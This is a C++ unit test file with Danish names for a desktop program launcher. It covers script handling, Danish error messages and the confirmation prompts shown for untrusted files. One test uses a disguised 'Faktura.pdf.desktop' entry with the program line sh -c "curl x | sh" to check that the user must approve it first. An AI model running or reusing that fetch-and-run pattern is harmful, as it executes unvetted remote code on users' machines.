#include "FakePlatform.h"
#include "SkriptedeBeskeder.h"
#include "Starter.h"
#include "Testmappe.h"

#include <QFile>
#include <QFileInfo>
#include <gtest/gtest.h>

namespace {

struct Opstilling
{
    Testmappe mappe;
    FakePlatform platform{mappe.sti("Tavlum").toStdString()};
    SkriptedeBeskeder beskeder;
    Starter starter{platform, beskeder};
};

using Kald = FakePlatform::Kald;

} // namespace

TEST(Starter, BatchScriptsRunInAConsoleFromTheirOwnFolder)
{
    Opstilling o;
    const QString spil = o.mappe.skriv("spil/Spil.BAT", "@echo off");
    const std::string mappe = nativ(o.mappe.sti("spil"));
    o.starter.executeProg(spil);
    const QString script = o.mappe.skriv("scripts/min fil.sh", "echo hej");
    o.starter.executeProg(script);
    ASSERT_EQ(o.platform.kald.size(), 2u);
    EXPECT_EQ(o.platform.kald[0], (Kald{"open", "cmd", "/K Spil.BAT", "", mappe}));
    EXPECT_EQ(o.platform.kald[1],
              (Kald{"open", "cmd", "/K min fil.sh", "", nativ(o.mappe.sti("scripts"))}));
    EXPECT_TRUE(o.beskeder.beskeder.isEmpty());
}

TEST(Starter, EveryOtherFileGoesToOpenAndMovesTheCurrentFolderOnSuccess)
{
    Opstilling o;
    for (const char* navn : {"a/start.cmd", "b/Regneark.ods", "c/Side.url", "d/film.mp4"}) {
        const QString fil = o.mappe.skriv(navn, "x");
        o.starter.executeProg(fil);
        EXPECT_EQ(o.platform.kald.back(),
                  (Kald{"open", fil.toStdString(), "", "", o.platform.kald.back().current}));
        EXPECT_EQ(o.platform.current, nativ(QFileInfo(fil).absolutePath()));
    }
    EXPECT_EQ(o.platform.kald[1].current, nativ(o.mappe.sti("a")));
}

TEST(Starter, ARefusalIsShownAndLeavesTheCurrentFolder)
{
    Opstilling o;
    o.platform.shellSvar = 31;
    const QString bog = o.mappe.skriv("x/bog.pdf", "x");
    o.starter.executeProg(bog);
    EXPECT_EQ(
        o.beskeder.beskeder,
        QStringList({"Der er ikke associeret noget program med givne filefternavn.\r" + bog}));
    EXPECT_EQ(o.platform.current, "/");
}

class Startfejl : public ::testing::TestWithParam<std::pair<int, const char*>>
{
};

TEST_P(Startfejl, SayInLinuxTermsWhatFailedAndNameTheFile)
{
    Opstilling o;
    o.platform.shellSvar = GetParam().first;
    const QString fil = o.mappe.skriv("skrivebord/Editor.desktop", "[Desktop Entry]");
    o.starter.executeProg(fil);
    EXPECT_EQ(o.beskeder.beskeder, QStringList(QString::fromUtf8(GetParam().second) + "\r" + fil));
}

INSTANTIATE_TEST_SUITE_P(
    Platformen, Startfejl,
    ::testing::Values(
        std::pair{int(Platform::NoProgramLine),
                  "Skrivebordsfilen har ingen programlinje (Exec), der kan køres."},
        std::pair{int(Platform::NoTerminal),
                  "Filen skal køres i et terminalprogram, men der er ikke installeret noget.\r"
                  "Der blev ledt efter xterm og konsole."},
        std::pair{int(Platform::ProgramNotFound),
                  "Programmet, som filen skal åbnes med, er ikke installeret."},
        std::pair{int(Platform::NotStartable), "Programmet kunne ikke startes."},
        std::pair{2, "Den specificerede fil blev ikke fundet."}),
    [](const auto& p) { return std::to_string(p.param.first); });

TEST(Starter, AScriptWithoutATerminalNamesTheTerminalsLookedFor)
{
    Opstilling o;
    o.platform.shellSvar = Platform::NoTerminal;
    const QString script = o.mappe.skriv("spil/start.sh", "echo");
    o.starter.executeProg(script);
    ASSERT_EQ(o.beskeder.beskeder.size(), 1);
    EXPECT_TRUE(o.beskeder.beskeder[0].contains("\rDer blev ledt efter xterm og konsole.\r"));
    EXPECT_TRUE(o.beskeder.beskeder[0].endsWith("\r" + script));
}

TEST(Starter, AnUntrustedDesktopEntryRunsOnlyWhenTheUserSaysYesToItsProgramLine)
{
    Opstilling o;
    const QString fil = o.mappe.skriv("Hentet/Faktura.pdf.desktop", "x");
    o.platform.programlinjer[fil.toStdString()] = "sh -c \"curl x | sh\"";
    o.platform.naesteSvar = {Platform::UntrustedEntry, Platform::UntrustedEntry};
    o.starter.executeProg(fil);
    const QString spoergsmaal = "Skrivebordsfilen\r" + fil +
                                "\rer ikke markeret som kørbar og ligger ikke i en programmappe. "
                                "Den starter programlinjen:\rsh -c \"curl x | sh\"\r"
                                "Skal den startes alligevel?";
    EXPECT_EQ(o.beskeder.spoergsmaal, QStringList(spoergsmaal));
    EXPECT_EQ(o.platform.kald.size(), 1u);
    EXPECT_EQ(o.platform.current, "/");
    EXPECT_TRUE(o.platform.betroet.empty());

    o.beskeder.setNextAnswer(true);
    o.starter.executeProg(fil);
    ASSERT_EQ(o.platform.kald.size(), 3u);
    EXPECT_EQ(o.platform.kald[2].verb, "openConfirmed");
    EXPECT_EQ(o.platform.betroet, std::vector<std::string>{fil.toStdString()});
    EXPECT_TRUE(!harKoerselsbit() || QFileInfo(fil).permissions() & QFile::ExeOwner);
    EXPECT_EQ(o.platform.current, nativ(o.mappe.sti("Hentet")));
    EXPECT_TRUE(o.beskeder.beskeder.isEmpty());
}

TEST(Starter, AScriptWithoutTheExecuteBitIsAskedForAndTrustedOnceAllowed)
{
    Opstilling o;
    const QString script = o.mappe.skriv("Hentet/installer.sh", "echo hej");
    QFile::setPermissions(script, QFile::ReadOwner | QFile::WriteOwner);
    const Kald kald{"open", "cmd", "/K installer.sh", "", nativ(o.mappe.sti("Hentet"))};
    // Windows has no execute bit: what trust means there is the backend's own.
    const auto udfoerbar = [&] { return bool(QFileInfo(script).permissions() & QFile::ExeOwner); };
    const bool bit = harKoerselsbit();

    o.platform.naesteSvar = {Platform::UntrustedEntry};
    o.starter.executeProg(script);
    EXPECT_EQ(o.beskeder.spoergsmaal,
              QStringList("Scriptet\r" + script +
                          "\rer ikke markeret som kørbart. Det køres i et terminalvindue.\r"
                          "Skal det køres alligevel?"));
    EXPECT_EQ(o.platform.kald, std::vector<Kald>{kald});
    EXPECT_TRUE(!bit || !udfoerbar());
    EXPECT_TRUE(o.beskeder.beskeder.isEmpty());

    o.platform.naesteSvar = {Platform::UntrustedEntry};
    o.beskeder.setNextAnswer(true);
    o.starter.executeProg(script);
    ASSERT_EQ(o.platform.kald.size(), 3u);
    Kald bekraeftet = kald;
    bekraeftet.verb = "openConfirmed";
    EXPECT_EQ(o.platform.kald[2], bekraeftet);
    EXPECT_TRUE(!bit || udfoerbar());

    // The shell runs a trusted script at once: no question.
    o.starter.executeProg(script);
    EXPECT_EQ(o.beskeder.spoergsmaal.size(), 2);
    EXPECT_EQ(o.platform.kald.size(), 4u);
    EXPECT_TRUE(o.beskeder.beskeder.isEmpty());
}

TEST(Starter, AnAppletWithoutASettingsPageSpeaksThroughTheMessageBox)
{
    Opstilling o;
    const QString mappe = o.mappe.sti("Window applets/");
    o.mappe.skriv("Window applets/lyd.sh", "#!/bin/sh");
    o.starter.runApplets(mappe, "lyd.sh");
    o.platform.scriptSvar = {42, Starter::ingenSide,
                             "Dette skrivebord har ingen indstillingsside for \"Lyd\".\n"};
    o.starter.runApplets(mappe, "lyd.sh");
    o.platform.scriptSvar = {5, 0, {}};
    o.starter.runApplets(mappe, "lyd.sh");
    EXPECT_EQ(o.beskeder.beskeder,
              QStringList({"Dette skrivebord har ingen indstillingsside for \"Lyd\".",
                           "Operationssystemet forbød adgang til filen."}));
    EXPECT_EQ(o.platform.kald.size(), 3u);
}

TEST(Starter, AVanishedFileIsNotLaunched)
{
    Opstilling o;
    o.starter.executeProg(o.mappe.sti("væk.exe"));
    o.starter.executeProg(o.mappe.sti(""));
    EXPECT_EQ(o.beskeder.beskeder, QStringList(2, "Filen blev ikke fundet!"));
    EXPECT_TRUE(o.platform.kald.empty());
}

TEST(Starter, AppletScriptsComeFromTheAppletsFolder)
{
    Opstilling o;
    const QString mappe = o.mappe.sti("Window applets/");
    o.starter.runApplets(mappe, "kontrolpanel.sh");
    EXPECT_EQ(o.beskeder.beskeder, QStringList({"Den specificerede fil blev ikke fundet."}));
    o.mappe.skriv("Window applets/kontrolpanel.sh", "#!/bin/sh");
    o.starter.runApplets(mappe, "kontrolpanel.sh");
    ASSERT_EQ(o.platform.kald.size(), 1u);
    EXPECT_EQ(o.platform.kald[0].file, (mappe + "kontrolpanel.sh").toStdString());
    EXPECT_EQ(o.platform.current, "/");
}

class Fejltekster : public ::testing::TestWithParam<std::pair<unsigned, const char*>>
{
};

TEST_P(Fejltekster, ShellErrorNumbersInDanish)
{
    EXPECT_EQ(Starter::fejltekst(GetParam().first), QString::fromUtf8(GetParam().second));
}

INSTANTIATE_TEST_SUITE_P(
    Tabellen, Fejltekster,
    ::testing::Values(
        std::pair{0u, "Operationssystemet er løbet tør for hukommelse eller resourcer."},
        std::pair{2u, "Den specificerede fil blev ikke fundet."},
        std::pair{4u, "Meningsløs operation eller ukendt fejl."},
        std::pair{26u, "Der opstod en \"sharing violation\"."},
        std::pair{30u, "Den \"Dynamic Data Exchange (DDE) transaction\" kunne ikke fuldføres\r"
                       "fordi andre \"DDE transactions\" skulle udføres."},
        std::pair{31u, "Der er ikke associeret noget program med givne filefternavn."},
        std::pair{33u, "Meningsløs operation eller ukendt fejl."}));

TEST(Starter, StartAllSkipsMissingFilesAndNamesThemInOneMessage)
{
    Opstilling o;
    const QString a = o.mappe.skriv("a/en.txt", "x");
    const QString c = o.mappe.skriv("c/tre.sh", "echo");
    o.starter.startAlle({a, o.mappe.sti("b/vaek.txt"), c, o.mappe.sti("d/ogsaa.txt")},
                        {"En", "Væk", "Tre", "Også"}, {"-n", "-x"}, {o.mappe.sti("c")});
    ASSERT_EQ(o.platform.kald.size(), 2u);
    EXPECT_EQ(o.platform.kald[0].file, a.toStdString());
    EXPECT_EQ(o.platform.kald[0].parameters, "-n");
    EXPECT_EQ(o.platform.kald[0].folder, nativ(o.mappe.sti("c")));
    EXPECT_EQ(o.platform.kald[1].parameters, "/K tre.sh");
    EXPECT_TRUE(o.beskeder.spoergsmaal.isEmpty());
    ASSERT_EQ(o.beskeder.beskeder.size(), 1);
    EXPECT_EQ(o.beskeder.beskeder[0],
              "Disse 2 elementer blev ikke fundet og er ikke startet:\rVæk: " +
                  o.mappe.sti("b/vaek.txt") + "\rOgså: " + o.mappe.sti("d/ogsaa.txt"));
}

TEST(Starter, StartAllAsksFirstAboveFiveElements)
{
    Opstilling o;
    QStringList filer;
    for (int i = 0; i < 6; ++i)
        filer << o.mappe.skriv(QStringLiteral("f/%1.txt").arg(i), "x");
    o.starter.startAlle(filer.mid(0, 5), {});
    EXPECT_TRUE(o.beskeder.spoergsmaal.isEmpty());
    EXPECT_EQ(o.platform.kald.size(), 5u);
    o.starter.startAlle(filer, {}); // unscripted: "Nej"
    EXPECT_EQ(o.beskeder.spoergsmaal, QStringList{"Skal alle 6 elementer i gruppen startes?"});
    EXPECT_EQ(o.platform.kald.size(), 5u);
    o.beskeder.setNextAnswer(true);
    o.starter.startAlle(filer, {});
    EXPECT_EQ(o.platform.kald.size(), 11u);
    EXPECT_EQ(o.platform.kald.back().file, filer.last().toStdString());
    EXPECT_TRUE(o.beskeder.beskeder.isEmpty());
}
